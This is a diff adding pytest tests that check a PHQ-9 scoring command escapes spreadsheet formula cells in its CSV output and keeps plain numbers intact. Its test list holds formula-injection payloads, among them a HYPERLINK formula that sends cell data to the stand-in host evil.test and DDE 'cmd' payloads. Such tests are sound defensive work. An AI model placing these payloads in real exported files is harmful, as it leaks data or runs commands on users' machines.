@@ -133,6 +133,51 @@ def test_other_columns_pass_through_unchanged_and_in_place(tmp_path: Path) -> No
     assert row[12:] == ["8", "mild", "", ""]
 
 
+# Spreadsheets run a cell that starts with = + - @ (or a tab or CR before one) as a formula.
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?x="&A2,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_output_cell_starts_a_formula(tmp_path: Path, formula: str) -> None:
+    quoted = '"' + formula.replace('"', '""') + '"'
+    text = (
+        f"id,{quoted},{','.join(PHQ9)}\n"
+        f"{quoted},{quoted},{quoted},1,1,1,1,1,1,1,1\n"
+        f"ok,{quoted},1,1,1,1,1,1,1,1,0\n"
+    )
+    out, _ = score("phq-9", write(tmp_path, text))
+    header, bad, good = list(csv.reader(io.StringIO(out)))
+    assert header[:2] == ["id", "'" + formula]
+    assert bad[:3] == ["'" + formula] * 3  # passed through, and a bad item cell
+    assert good[:2] == ["ok", "'" + formula]
+    assert good[-4:] == ["8", "mild", "", ""]
+    for cell in header + bad + good:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_plain_numbers_stay_numbers(tmp_path: Path) -> None:
+    text = phq9_csv(["-5", *[0] * 9], ["+2.5", *[0] * 9], ["-1", -1, *[0] * 8])
+    out, _ = score("phq-9", write(tmp_path, text))
+    rows = list(csv.reader(io.StringIO(out)))[1:]
+    assert [row[0] for row in rows] == ["-5", "+2.5", "-1"]
+    assert rows[2][1] == "-1"  # the bad answer as given, with its error
+    assert "value -1 is not one of the allowed answers" in rows[2][-1]
+
+
+def test_the_help_says_formulas_are_escaped() -> None:
+    from alliance.measures.management.commands.score import Command
+
+    text = " ".join(Command().create_parser("alliance", "score").format_help().split())
+    assert "starts with = + - @, a tab or a carriage return gets a leading '" in text
+
+
 def test_the_sample_file_scores_row_by_row(tmp_path: Path) -> None:
     out, err = score("phq-9", DATA / "phq9-responses.csv")
     rows = list(csv.DictReader(io.StringIO(out)))
